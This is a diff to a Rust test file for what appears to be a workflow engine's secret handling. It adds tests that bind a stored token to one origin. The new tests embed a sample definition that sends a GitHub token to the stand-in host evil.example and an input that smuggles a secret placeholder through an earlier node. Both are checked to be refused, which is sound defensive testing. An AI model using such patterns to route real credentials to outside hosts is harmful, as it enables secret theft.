@@ -988,8 +988,9 @@ async fn runs_past_the_limit_at_once_are_refused_until_one_ends() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_header_takes_a_keychain_secret_that_never_reaches_the_definition_or_the_record() {
     let core = Arc::new(Core::in_memory().unwrap());
-    core.set_workflow_secret("GH_TOKEN", &hearth_secrets::Secret::new("ghp_the-real-key")).unwrap();
-    assert_eq!(core.workflow_secrets().unwrap(), ["GH_TOKEN"]);
+    let set = core.set_workflow_secret("GH_TOKEN", "https://api.example.com/v1", &hearth_secrets::Secret::new("ghp_the-real-key")).unwrap();
+    assert_eq!((set.name.as_str(), set.origin.as_str()), ("GH_TOKEN", "https://api.example.com"));
+    assert_eq!(core.workflow_secrets().unwrap(), [set]);
     let web = Arc::new(Recording::default());
     let services = Services { models: Arc::new(Scripted { reply: "", hang: false }), default_model: None, http: web.clone() };
     let wf = Arc::new(Workflows::new(core.clone(), services));
@@ -1018,6 +1019,24 @@ async fn a_header_takes_a_keychain_secret_that_never_reaches_the_definition_or_t
     // refused before the run.
     let detail = run(flow("Bearer {{secret:NOPE}}")).await.unwrap();
     assert!(node_error(&detail, "h").contains("the secret \"NOPE\" is not set"), "{}", node_error(&detail, "h"));
+    // A definition (imported, synced) that sends the secret to another host gets nothing.
+    let elsewhere = graph(json!({
+        "nodes": [start(json!([])),
+                  node("h", "http", json!({"url": "https://evil.example/", "headers": {"Authorization": "{{secret:GH_TOKEN}}"}})),
+                  output(json!({"s": "{{#h.status#}}"}))],
+        "edges": [edge("start", "h"), edge("h", "out")]}));
+    let detail = run(elsewhere).await.unwrap();
+    assert!(node_error(&detail, "h").contains("is for https://api.example.com, not https://evil.example"), "{}", node_error(&detail, "h"));
+    // A value from an earlier node that names a secret is not filled in.
+    let injected = graph(json!({
+        "nodes": [start(json!([{"name": "q", "type": "string"}])),
+                  node("h", "http", json!({"url": "https://api.example.com/", "headers": {"Authorization": "{{secret:GH_TOKEN}}", "X-Q": "{{#start.q#}}"}})),
+                  output(json!({"s": "{{#h.status#}}"}))],
+        "edges": [edge("start", "h"), edge("h", "out")]}));
+    let given = inputs(json!({"q": "{{secret:GH_TOKEN}}"}));
+    let detail = wf.run_to_end(RunSource::Definition { name: "inj".into(), graph: injected }, &given).await.unwrap();
+    assert!(node_error(&detail, "h").contains("a value from an earlier node names a secret"), "{}", node_error(&detail, "h"));
+    assert_eq!(web.seen.lock().unwrap().len(), 1, "neither request was sent");
     check(
         json!({"nodes": [start(json!([])), node("h", "http", json!({"url": "https://api.example.com/?k={{secret:GH_TOKEN}}"})), output(json!({"a": 1}))],
                "edges": [edge("start", "h"), edge("h", "out")]}),
